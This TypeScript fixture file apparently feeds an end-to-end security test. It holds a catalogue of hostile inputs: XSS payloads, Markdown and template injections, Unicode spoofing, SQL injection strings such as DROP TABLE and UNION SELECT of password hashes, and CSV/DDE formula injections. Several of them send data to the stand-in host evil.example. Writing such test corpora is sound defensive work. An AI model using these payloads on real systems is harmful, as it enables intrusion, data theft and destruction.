// A corpus of hostile text for e2e/hostile-input.spec.ts: XSS, Markdown tricks, Unicode tricks, SQL
// and tsquery metacharacters, CSV formulas. Every payload that would run script, if it ever did,
// leaves a mark the spec looks for: a dialog (alert/confirm/prompt), `window.__pwned` set, or the
// document's title set to "pwned". Off-site resources point at evil.example, which the page's CSP
// does not allow, so loading one is reported as a violation.

export type PayloadKind = "script" | "handler" | "link" | "markdown" | "embed" | "css" | "template" | "unicode" | "sql" | "tsquery" | "csv";

export interface Payload {
  kind: PayloadKind;
  text: string;
}

const B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="; // <script>alert(1)</script>
const B64_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="; // <svg onload=alert(1)>

const script = [
  "<script>alert(1)</script>",
  "<ScRiPt>window.__pwned=1</sCrIpT>",
  "<SCRIPT>document.title='pwned'</SCRIPT>",
  "<script src=data:text/javascript,window.__pwned=1></script>",
  "<script src=https://evil.example/x.js></script>",
  "<<script>alert(1);//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script >alert(1)</script >",
  "<script\ttype='text/javascript'>alert(1)</script>",
  "</script><script>window.__pwned=1</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "\"><script>alert(1)</script>",
  "'><script>window.__pwned=1</script>",
  "<!--<script>alert(1)</script>-->",
  "<script>alert(1)",
  "<svg><script>alert(1)</script></svg>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "＜script＞alert(1)＜/script＞",
  '"}]);window.__pwned=1;//',
  "\\\";alert(1);//",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
];

const handler = [
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="window.__pwned=1">',
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  "<img src=x:alert(alt) onerror=eval(src) alt=1>",
  "<img/src/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=window.__pwned=1>",
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=window.__pwned=1>",
  "<textarea autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="#" onclick="alert(1)">click</a>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<style onload=alert(1)></style>",
  "<iframe onload=window.__pwned=1>",
  "<x contenteditable onblur=alert(1)>lose focus</x>",
];

const link = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:window.__pwned=1">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  `<a href="data:text/html;base64,${B64_SCRIPT}">x</a>`,
  '<a href="vbscript:msgbox(1)">x</a>',
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:window.__pwned=1)",
  "[click](javascript&#58;alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](&#x6A;avascript:alert(1))",
  '[click](javascript:alert(1) "title")',
  "[click](<javascript:alert(1)>)",
  "[click](  javascript:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](java&#x09;script:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  `[click](data:text/html;base64,${B64_SCRIPT})`,
  "[click](vbscript:msgbox(1))",
  "[click][evil]\n\n[evil]: javascript:alert(1)",
  `[evil2]\n\n[evil2]: data:text/html;base64,${B64_SCRIPT}`,
  "[click][v]\n\n[v]: vbscript:msgbox(1) \"t\"",
  "<javascript:alert(1)>",
  "<vbscript:msgbox(1)>",
  '<https://example.org/"onmouseover="alert(1)>',
  '[x](https://example.org/" onmouseover="alert(1))',
  "[x](//evil.example/x)",
  "[x](\\\\evil.example\\x)",
];

const markdown = [
  "![pixel](https://evil.example/pixel.png)",
  '![pixel](https://evil.example/pixel.png "title")',
  "![ref][img]\n\n[img]: https://evil.example/ref.png",
  "![x](javascript:alert(1))",
  `![x](data:image/svg+xml;base64,${B64_SVG})`,
  "[![pixel](https://evil.example/a.png)](javascript:alert(1))",
  "<img src=\"https://evil.example/raw.png\">",
  "<https://evil.example/autolink>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "> <script>alert(1)</script>",
  "- [x](javascript:alert(1))\n- <img src=x onerror=alert(1)>",
  "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
  "[x](https://example.org)<!-- <script>alert(1)</script> -->",
  "*<img src=x onerror=alert(1)>*",
  "[<img src=x onerror=alert(1)>](https://example.org)",
];

const embed = [
  '<iframe src="javascript:alert(1)"></iframe>',
  "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
  "<iframe src=https://evil.example/frame></iframe>",
  '<object data="javascript:alert(1)"></object>',
  `<embed src="data:image/svg+xml;base64,${B64_SVG}">`,
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<form><button formaction=javascript:alert(1)>go</button></form>",
  '<form action="https://evil.example/steal"><input name=password></form>',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math href="javascript:alert(1)">x</math>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
];

const css = [
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<style>body{background:url("https://evil.example/x.png")}</style>',
  '<div style="background-image:url(https://evil.example/x.png)">x</div>',
];

const template = [
  "{{constructor.constructor('alert(1)')()}}",
  "{{$on.constructor('window.__pwned=1')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
  "[[${7*7}]]",
  "{% raw %}{{ 7*7 }}{% endraw %}",
  '{"__proto__":{"polluted":1}}',
];

const unicode = [
  "Ministry\u202E of Foreign Affairs",
  "txt\u202Eexe.pdf",
  "\u2066evil\u2069 \u2067rtl\u2069 \u2068first\u2069",
  "ad\u200Bmin",
  "se\u200Ccre\u200Dtariat",
  "\uFEFFbom at start",
  "Аdmin Ѕecretariat", // Cyrillic А and Ѕ
  "Ministry of Foreign Affairs of Kеnya", // Cyrillic е
  "Z\u0338\u0327\u0349\u0353a\u0336\u0321l\u0335g\u0337o\u0334".repeat(8),
  "A".repeat(5000),
  `https://example.org/${"a".repeat(1500)}`,
  "\u2028line\u2029paragraph",
  "bell\u0007 escape\u001b[31m red",
  "emoji 👩‍👩‍👧‍👦 and 🇰🇪",
  "مرحبا שלום mixed RTL",
];

const sql = [
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  "\\",
  "\\\\",
  "'; SELECT pg_sleep(5); --",
  "1' UNION SELECT email, password_hash FROM users --",
  "%' AND 1=1 AND '%'='",
  "_%",
  "$$; DROP TABLE norms; $$",
  "admin'--",
  "') OR ('1'='1",
];

const tsquery = [
  "&|!():*<->",
  "foo & | bar",
  '"unbalanced',
  "(((",
  ")))",
  "!!!",
  "a:*",
  "a <-> b <2> c",
  "'quoted",
  "foo:ABCD",
  "\\:*",
  "'' & ''",
  ":*",
  "or and not",
  "-foo",
  '"foo" -"bar" or',
  "&&",
  "<->",
  "**",
  "a & (b | !c",
];

const csv = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  '=DDE("cmd";"/C calc";"!A0")',
];

export const payloads: readonly Payload[] = [
  ...script.map((text) => ({ kind: "script" as const, text })),
  ...handler.map((text) => ({ kind: "handler" as const, text })),
  ...link.map((text) => ({ kind: "link" as const, text })),
  ...markdown.map((text) => ({ kind: "markdown" as const, text })),
  ...embed.map((text) => ({ kind: "embed" as const, text })),
  ...css.map((text) => ({ kind: "css" as const, text })),
  ...template.map((text) => ({ kind: "template" as const, text })),
  ...unicode.map((text) => ({ kind: "unicode" as const, text })),
  ...sql.map((text) => ({ kind: "sql" as const, text })),
  ...tsquery.map((text) => ({ kind: "tsquery" as const, text })),
  ...csv.map((text) => ({ kind: "csv" as const, text })),
];

/** Text PostgreSQL cannot store (NUL; a broken surrogate pair): refused as bad input (400), never a 500. */
export const unstorable = ["nul\u0000byte", "\u0000\u0000", "lone \uD800 surrogate", "half \uDC00 pair"];

export const texts = payloads.map((p) => p.text);
export const ofKind = (...kinds: PayloadKind[]) => payloads.filter((p) => kinds.includes(p.kind)).map((p) => p.text);

/**
 * The payloads packed into as few texts of at most `max` characters as hold them all, each payload
 * a Markdown block of its own (a blank line between), so reference-style links take effect.
 * Texts shorter than `min` are padded with a neutral sentence.
 */
export function pack(list: readonly string[], max: number, min = 0): string[] {
  const out: string[] = [];
  let current = "";
  for (const text of list) {
    const piece = text.length > max ? text.slice(0, max) : text;
    if (current && current.length + 2 + piece.length > max) {
      out.push(current);
      current = "";
    }
    current = current ? `${current}\n\n${piece}` : piece;
  }
  if (current) out.push(current);
  return out.map((t) => (t.length < min ? `${t}\n\nHostile input test text.`.slice(0, Math.max(max, min)) : t));
}
